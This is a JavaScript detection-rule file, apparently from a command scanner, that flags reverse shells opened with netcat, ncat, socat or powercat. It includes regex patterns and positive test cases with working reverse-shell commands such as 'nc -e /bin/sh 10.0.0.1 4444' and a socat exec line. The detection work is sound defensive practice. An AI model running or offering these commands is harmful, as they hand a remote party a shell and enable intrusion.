import { defineRule, perInvocation } from './rule.js';
import { lowerArgs } from './match.js';

export const rule = defineRule({
  id: 'netcat_exec',
  category: 'reverse_shell',
  severity: 'critical',
  technique: 'T1059.004',
  title: 'Connects a shell to a network socket with netcat/ncat/socat (-e, --exec, EXEC:)',
  check: perInvocation((inv) => {
    const p = inv.program;
    const a = lowerArgs(inv);
    const listen = /(^|\s)-[a-z]*l|listen/.test(a);
    if ((p === 'nc' || p === 'ncat' || p === 'netcat' || p === 'nc.traditional' || p === 'cryptcat' || p === 'powercat') && /(^|\s)(-[a-z]*[ec]\b|--exec|--sh-exec|--lua-exec|-e\s)/.test(a) && !listen) return `${p} connects out and gives the remote side a shell`;
    if (p === 'socat' && /(exec|system):/.test(a) && /(tcp|udp|openssl|ssl)[46]?(-connect)?:/.test(a) && !/(tcp|udp)[46]?-l(isten)?:/.test(a)) return 'socat connects out and gives the remote side a shell';
    if (p === 'powercat' || /powercat/.test(a) && /-e\s+cmd|-ep\b/.test(a)) return 'powercat gives a remote machine a shell';
    return undefined;
  }),
  cases: {
    positive: [['bash', 'nc -e /bin/sh 10.0.0.1 4444'], ['bash', 'ncat 10.0.0.1 4444 --exec /bin/bash'], ['bash', 'socat tcp:10.0.0.1:4444 exec:"bash -li",pty,stderr,setsid']],
    negative: [['bash', 'nc -zv db.internal 5432'], ['bash', 'socat TCP-LISTEN:8080,fork TCP:localhost:80']],
  },
});
